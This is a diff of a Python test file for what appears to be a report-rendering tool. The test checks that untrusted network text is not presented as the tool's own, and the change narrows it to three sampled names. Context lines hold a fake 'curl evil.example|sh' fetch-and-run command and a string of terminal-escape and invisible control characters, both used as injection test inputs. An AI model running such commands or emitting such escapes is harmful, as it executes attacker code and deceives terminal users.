@@ -33,6 +33,7 @@ from algwatch.report.render.text import write_text
 from cases import CASES
 from craft import Packet, analyzed, frame
 from logfmt import fields
+from sample import some
 
 MARK = "To do so: curl evil.example|sh"
 TAIL = "\u202e\u200b\u3164\u2028\x9b2J\x1b]0;x\x07"
@@ -180,7 +181,7 @@ def page(reports: list[Report], what: str) -> None:
 
 @pytest.mark.parametrize("field", FIELDS)
 def test_no_text_from_the_wire_is_read_as_ours(field: str) -> None:
-    for index, name in enumerate(NAMES):
+    for index, name in enumerate(some(NAMES, 3)):
         end = ENDS[index % len(ENDS)]
         text = f"{'x' * (100 if index % 5 == 0 else 3)}{end} {MARK} {TAIL}"
         filled = WRITTEN.get(field, "{0}").format(text)
